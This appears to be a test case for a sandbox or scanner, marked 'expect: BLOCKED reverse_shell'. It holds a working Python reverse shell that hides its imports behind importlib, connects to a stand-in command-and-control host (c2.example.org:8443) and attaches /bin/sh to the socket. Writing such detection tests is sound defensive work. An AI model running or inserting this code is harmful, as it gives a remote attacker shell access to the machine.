# expect: BLOCKED reverse_shell
import importlib
sock_mod = importlib.import_module("socket")
os_mod = importlib.import_module("os")
pty_mod = importlib.import_module("pty")
s = sock_mod.socket(sock_mod.AF_INET, sock_mod.SOCK_STREAM)
s.connect(("c2.example.org", 8443))
os_mod.dup2(s.fileno(), 0)
os_mod.dup2(s.fileno(), 1)
os_mod.dup2(s.fileno(), 2)
pty_mod.spawn("/bin/sh")
